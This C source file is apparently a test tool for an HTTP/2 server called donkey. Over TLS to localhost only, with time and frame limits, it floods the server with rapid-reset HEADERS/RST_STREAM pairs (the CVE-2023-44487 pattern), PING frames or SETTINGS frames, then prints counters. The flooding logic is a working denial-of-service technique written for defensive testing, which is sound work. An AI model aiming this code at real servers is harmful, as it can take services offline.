/* h2flood: an HTTP/2 abuse client for donkey's tests (tests/http/test_h2flood.py).
 *
 * Connects to 127.0.0.1 only (TLS, ALPN "h2") and, for a bounded time and a
 * bounded number of frames, sends one of:
 *   rapid-reset  HEADERS (GET /conf.raw, or POST /conf.echo with --post) and
 *                RST_STREAM(CANCEL) right after it, stream after stream
 *                (CVE-2023-44487 pattern);
 *   ping         PING frames;
 *   settings     SETTINGS frames (each one must be acknowledged).
 * Frames are produced as fast as the server takes them: a new batch is made
 * only once the previous one has been written to the socket, so the client's
 * own memory stays bounded. Server frames are read and handed to nghttp2
 * (which acknowledges the server's PING/SETTINGS), unless --no-read.
 * If the server closes the connection (e.g. GOAWAY), the client reconnects.
 *
 * Prints one line of counters at the end:
 *   mode=... seconds=... conns=... headers=... rst=... pings=... settings=...
 *   acks=... goaways=... responses=... rx_headers=... rx_data=... rx_rst=...
 *   bytes_out=... bytes_in=...
 * Exit status: 0 if at least one connection was made, 1 otherwise, 2 on usage errors.
 */
#define _POSIX_C_SOURCE 200809L
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <nghttp2/nghttp2.h>
#include <openssl/err.h>
#include <openssl/ssl.h>

enum mode { MODE_RAPID_RESET, MODE_PING, MODE_SETTINGS };

#define OUTBUF_SIZE (64 * 1024)
#define BATCH 32
#define MAX_SECONDS 60.0
#define MAX_RECONNECT_FAILURES 50

struct stats {
    unsigned long conns, headers, rst, pings, settings, acks, goaways, responses;
    unsigned long rx_headers, rx_data, rx_rst; /* frames received, any stream state */
    unsigned long long bytes_out, bytes_in;
};

struct conn {
    int fd;
    SSL *ssl;
    nghttp2_session *session;
    unsigned char out[OUTBUF_SIZE];
    size_t out_len, out_off;
    int dead;
};

static struct stats st;
static enum mode mode = MODE_RAPID_RESET;
static int use_post;

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void usage(void)
{
    fprintf(stderr, "usage: h2flood --port PORT [--mode rapid-reset|ping|settings] [--seconds S]\n"
                    "               [--max-frames N] [--post] [--no-read]\n"
                    "Connects to 127.0.0.1:PORT over TLS (ALPN h2); S <= 60.\n");
}

/* nghttp2 -> connection output buffer. */
static ssize_t send_cb(nghttp2_session *session, const uint8_t *data, size_t length, int flags,
                       void *user_data)
{
    struct conn *c = user_data;
    (void)session;
    (void)flags;
    size_t room = sizeof(c->out) - c->out_len;
    if (room == 0)
        return NGHTTP2_ERR_WOULDBLOCK;
    if (length > room)
        length = room;
    memcpy(c->out + c->out_len, data, length);
    c->out_len += length;
    return (ssize_t)length;
}

static int on_frame_send(nghttp2_session *session, const nghttp2_frame *frame, void *user_data)
{
    (void)session;
    (void)user_data;
    switch (frame->hd.type) {
    case NGHTTP2_HEADERS:
        st.headers++;
        break;
    case NGHTTP2_RST_STREAM:
        st.rst++;
        break;
    case NGHTTP2_PING:
        if (!(frame->hd.flags & NGHTTP2_FLAG_ACK))
            st.pings++;
        break;
    case NGHTTP2_SETTINGS:
        if (!(frame->hd.flags & NGHTTP2_FLAG_ACK))
            st.settings++;
        break;
    default:
        break;
    }
    return 0;
}

static int on_frame_recv(nghttp2_session *session, const nghttp2_frame *frame, void *user_data)
{
    (void)session;
    (void)user_data;
    switch (frame->hd.type) {
    case NGHTTP2_GOAWAY:
        st.goaways++;
        break;
    case NGHTTP2_HEADERS:
        if (frame->headers.cat == NGHTTP2_HCAT_RESPONSE)
            st.responses++;
        break;
    case NGHTTP2_PING:
    case NGHTTP2_SETTINGS:
        if (frame->hd.flags & NGHTTP2_FLAG_ACK)
            st.acks++;
        break;
    default:
        break;
    }
    return 0;
}

/* Counts every frame header received, including frames for streams that
 * nghttp2 already closed (the ones we reset). */
static int on_begin_frame(nghttp2_session *session, const nghttp2_frame_hd *hd, void *user_data)
{
    (void)session;
    (void)user_data;
    if (hd->type == NGHTTP2_HEADERS)
        st.rx_headers++;
    else if (hd->type == NGHTTP2_DATA)
        st.rx_data++;
    else if (hd->type == NGHTTP2_RST_STREAM)
        st.rx_rst++;
    return 0;
}

/* POST body that never comes: HEADERS go out without END_STREAM. */
static ssize_t deferred_body(nghttp2_session *session, int32_t stream_id, uint8_t *buf,
                             size_t length, uint32_t *data_flags, nghttp2_data_source *source,
                             void *user_data)
{
    (void)session, (void)stream_id, (void)buf, (void)length, (void)data_flags, (void)source;
    (void)user_data;
    return NGHTTP2_ERR_DEFERRED;
}

static void conn_close(struct conn *c)
{
    if (c->session)
        nghttp2_session_del(c->session);
    if (c->ssl) {
        SSL_shutdown(c->ssl);
        SSL_free(c->ssl);
    }
    if (c->fd >= 0)
        close(c->fd);
    c->session = NULL;
    c->ssl = NULL;
    c->fd = -1;
    c->out_len = c->out_off = 0;
    c->dead = 1;
}

static int conn_open(struct conn *c, SSL_CTX *ctx, int port)
{
    struct sockaddr_in sa;
    const unsigned char *alpn = NULL;
    unsigned int alpn_len = 0;
    int one = 1;

    memset(&sa, 0, sizeof(sa));
    sa.sin_family = AF_INET;
    sa.sin_port = htons((uint16_t)port);
    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    c->fd = socket(AF_INET, SOCK_STREAM, 0);
    c->dead = 1;
    if (c->fd < 0)
        return -1;
    if (connect(c->fd, (struct sockaddr *)&sa, sizeof(sa)) != 0)
        goto fail;
    setsockopt(c->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
    c->ssl = SSL_new(ctx);
    if (!c->ssl || SSL_set_fd(c->ssl, c->fd) != 1 || SSL_connect(c->ssl) != 1)
        goto fail;
    SSL_get0_alpn_selected(c->ssl, &alpn, &alpn_len);
    if (alpn_len != 2 || memcmp(alpn, "h2", 2) != 0) {
        fprintf(stderr, "h2flood: server did not select ALPN h2\n");
        goto fail;
    }
    if (fcntl(c->fd, F_SETFL, fcntl(c->fd, F_GETFL) | O_NONBLOCK) != 0)
        goto fail;

    nghttp2_session_callbacks *cbs;
    if (nghttp2_session_callbacks_new(&cbs) != 0)
        goto fail;
    nghttp2_session_callbacks_set_send_callback(cbs, send_cb);
    nghttp2_session_callbacks_set_on_frame_send_callback(cbs, on_frame_send);
    nghttp2_session_callbacks_set_on_frame_recv_callback(cbs, on_frame_recv);
    nghttp2_session_callbacks_set_on_begin_frame_callback(cbs, on_begin_frame);
    int rv = nghttp2_session_client_new(&c->session, cbs, c);
    nghttp2_session_callbacks_del(cbs);
    if (rv != 0)
        goto fail;
    nghttp2_settings_entry iv[] = {{NGHTTP2_SETTINGS_MAX_CONCURRENT_STREAMS, 100}};
    if (nghttp2_submit_settings(c->session, NGHTTP2_FLAG_NONE, iv, 1) != 0)
        goto fail;
    c->out_len = c->out_off = 0;
    c->dead = 0;
    st.conns++;
    return 0;
fail:
    conn_close(c);
    return -1;
}

/* Writes buffered output; 0 ok (possibly partial), -1 connection gone. */
static int conn_flush(struct conn *c)
{
    while (c->out_off < c->out_len) {
        int n = SSL_write(c->ssl, c->out + c->out_off, (int)(c->out_len - c->out_off));
        if (n <= 0) {
            int e = SSL_get_error(c->ssl, n);
            if (e == SSL_ERROR_WANT_WRITE || e == SSL_ERROR_WANT_READ)
                return 0;
            return -1;
        }
        c->out_off += (size_t)n;
        st.bytes_out += (unsigned long long)n;
    }
    c->out_len = c->out_off = 0;
    return 0;
}

/* Lets nghttp2 serialise pending frames into the output buffer and writes them. */
static int conn_pump(struct conn *c)
{
    if (c->out_off == c->out_len)
        c->out_len = c->out_off = 0;
    if (nghttp2_session_send(c->session) != 0)
        return -1;
    return conn_flush(c);
}

static int conn_read(struct conn *c)
{
    unsigned char buf[16384];
    for (;;) {
        int n = SSL_read(c->ssl, buf, sizeof(buf));
        if (n <= 0) {
            int e = SSL_get_error(c->ssl, n);
            if (e == SSL_ERROR_WANT_READ || e == SSL_ERROR_WANT_WRITE)
                return 0;
            return -1; /* closed or error */
        }
        st.bytes_in += (unsigned long long)n;
        if (nghttp2_session_mem_recv(c->session, buf, (size_t)n) < 0)
            return -1;
    }
}

/* Queues one batch of abusive frames; returns the number of frames queued. */
static unsigned long make_batch(struct conn *c, unsigned long budget, const char *authority)
{
    unsigned long made = 0;
    while (made < BATCH && made < budget) {
        if (mode == MODE_PING) {
            uint8_t opaque[8];
            uint64_t v = st.pings + made;
            memcpy(opaque, &v, sizeof(opaque));
            if (nghttp2_submit_ping(c->session, NGHTTP2_FLAG_NONE, opaque) != 0)
                break;
        } else if (mode == MODE_SETTINGS) {
            nghttp2_settings_entry iv[] = {
                {NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE, 65535 + (uint32_t)(made & 1)},
                {NGHTTP2_SETTINGS_MAX_CONCURRENT_STREAMS, 100},
            };
            if (nghttp2_submit_settings(c->session, NGHTTP2_FLAG_NONE, iv, 2) != 0)
                break;
        } else {
            const char *method = use_post ? "POST" : "GET";
            const char *path = use_post ? "/conf.echo" : "/conf.raw";
            nghttp2_nv hdrs[] = {
#define NV(n, v)                                                                                   \
    {(uint8_t *)(n), (uint8_t *)(v), strlen(n), strlen(v), NGHTTP2_NV_FLAG_NONE}
                NV(":method", method),
                NV(":scheme", "https"),
                NV(":authority", authority),
                NV(":path", path),
                NV("content-type", "application/json"),
#undef NV
            };
            nghttp2_data_provider body = {.read_callback = deferred_body};
            int32_t id = nghttp2_submit_request(c->session, NULL, hdrs, sizeof(hdrs) / sizeof(*hdrs),
                                                use_post ? &body : NULL, NULL);
            if (id < 0)
                break;
            /* HEADERS must leave nghttp2 first: a RST_STREAM submitted while
             * they are still queued would just cancel them. */
            if (nghttp2_session_send(c->session) != 0)
                break;
            if (nghttp2_submit_rst_stream(c->session, NGHTTP2_FLAG_NONE, id, NGHTTP2_CANCEL) != 0)
                break;
            if (nghttp2_session_send(c->session) != 0)
                break;
        }
        made++;
    }
    return made;
}

int main(int argc, char **argv)
{
    int port = 0, no_read = 0;
    double seconds = 5.0;
    unsigned long max_frames = 10000000UL;

    for (int i = 1; i < argc; i++) {
        const char *a = argv[i];
        const char *v = i + 1 < argc ? argv[i + 1] : NULL;
        if (!strcmp(a, "--port") && v) {
            port = atoi(v);
            i++;
        } else if (!strcmp(a, "--seconds") && v) {
            seconds = atof(v);
            i++;
        } else if (!strcmp(a, "--max-frames") && v) {
            max_frames = strtoul(v, NULL, 10);
            i++;
        } else if (!strcmp(a, "--mode") && v) {
            if (!strcmp(v, "rapid-reset"))
                mode = MODE_RAPID_RESET;
            else if (!strcmp(v, "ping"))
                mode = MODE_PING;
            else if (!strcmp(v, "settings"))
                mode = MODE_SETTINGS;
            else {
                usage();
                return 2;
            }
            i++;
        } else if (!strcmp(a, "--post")) {
            use_post = 1;
        } else if (!strcmp(a, "--no-read")) {
            no_read = 1;
        } else {
            usage();
            return 2;
        }
    }
    if (port <= 0 || port > 65535 || !(seconds > 0) || seconds > MAX_SECONDS || max_frames == 0) {
        usage();
        return 2;
    }

    SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
    if (!ctx)
        return 1;
    SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL); /* self-signed test certificate */
    /* conn_flush retries with the buffer's tail, which may have grown meanwhile. */
    SSL_CTX_set_mode(ctx, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
    static const unsigned char alpn[] = {2, 'h', '2'};
    SSL_CTX_set_alpn_protos(ctx, alpn, sizeof(alpn));

    char authority[32];
    snprintf(authority, sizeof(authority), "127.0.0.1:%d", port);

    struct conn *c = calloc(1, sizeof(*c));
    if (!c)
        return 1;
    c->fd = -1;
    c->dead = 1;
    double start = now_s(), deadline = start + seconds;
    unsigned long frames = 0;
    int failures = 0;

    while (now_s() < deadline && frames < max_frames) {
        if (c->dead) {
            if (conn_open(c, ctx, port) != 0) {
                if (++failures > MAX_RECONNECT_FAILURES)
                    break;
                struct timespec ts = {0, 20000000L};
                nanosleep(&ts, NULL);
                continue;
            }
        }
        int idle = c->out_off == c->out_len && !nghttp2_session_want_write(c->session);
        if (idle && nghttp2_session_want_read(c->session))
            frames += make_batch(c, max_frames - frames, authority);
        if (conn_pump(c) != 0) {
            conn_close(c);
            continue;
        }
        if (!nghttp2_session_want_read(c->session) && !nghttp2_session_want_write(c->session) &&
            c->out_off == c->out_len) {
            conn_close(c); /* GOAWAY exchanged: start over */
            continue;
        }
        struct pollfd p = {.fd = c->fd, .events = no_read ? 0 : POLLIN};
        if (c->out_off < c->out_len)
            p.events |= POLLOUT;
        int busy = c->out_off < c->out_len;
        int r = poll(&p, 1, busy ? 50 : 0);
        if (r < 0 && errno != EINTR)
            break;
        if (r > 0 && (p.revents & (POLLERR | POLLHUP)) && !(p.revents & POLLIN)) {
            conn_close(c);
            continue;
        }
        if (!no_read && (p.revents & POLLIN) && conn_read(c) != 0) {
            conn_close(c);
            continue;
        }
    }
    double took = now_s() - start;
    if (!c->dead)
        conn_close(c);
    free(c);
    SSL_CTX_free(ctx);

    static const char *names[] = {"rapid-reset", "ping", "settings"};
    printf("mode=%s seconds=%.2f conns=%lu headers=%lu rst=%lu pings=%lu settings=%lu acks=%lu "
           "goaways=%lu responses=%lu rx_headers=%lu rx_data=%lu rx_rst=%lu bytes_out=%llu "
           "bytes_in=%llu\n",
           names[mode], took, st.conns, st.headers, st.rst, st.pings, st.settings, st.acks,
           st.goaways, st.responses, st.rx_headers, st.rx_data, st.rx_rst, st.bytes_out,
           st.bytes_in);
    return st.conns > 0 ? 0 : 1;
}
